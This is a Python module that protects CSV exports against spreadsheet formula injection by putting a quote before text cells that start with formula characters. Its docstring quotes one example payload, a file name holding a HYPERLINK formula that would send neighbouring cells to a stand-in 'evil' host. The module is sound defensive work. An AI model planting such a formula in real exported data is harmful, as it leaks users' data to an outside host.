"""CSV that a spreadsheet program opens as data, never as formulas.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, after they trim it, a tab or a carriage return) as
a formula: a photo named ``=HYPERLINK("http://evil/?"&A1,"open").jpg`` would
become a live link that leaks the neighbouring cells. OWASP's advice, which
those programs honour: put a single quote before such a cell, so it shows as
the text it is. :func:`spreadsheet_cell` does that to one value;
:func:`csv_text` writes a whole table with it, and every CSV objlen makes (the
batch's ``results.csv``, the History export) goes through it.

Numbers are left alone (``-1.5`` stays a number); only text is changed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell.

    Text starting with one of :data:`FORMULA_STARTS` gets a leading single
    quote; ``None`` becomes an empty cell; anything else is returned as is.

    >>> spreadsheet_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> spreadsheet_cell(-1.5), spreadsheet_cell("bolt.jpg"), spreadsheet_cell(None)
    (-1.5, 'bolt.jpg', '')
    """
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A table as CSV text: ``header``, then one line per row, every cell
    through :func:`spreadsheet_cell` (``\\n`` line ends, standard quoting)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([spreadsheet_cell(name) for name in header])
    for row in rows:
        writer.writerow([spreadsheet_cell(value) for value in row])
    return buffer.getvalue()


__all__ = ["FORMULA_STARTS", "csv_text", "spreadsheet_cell"]
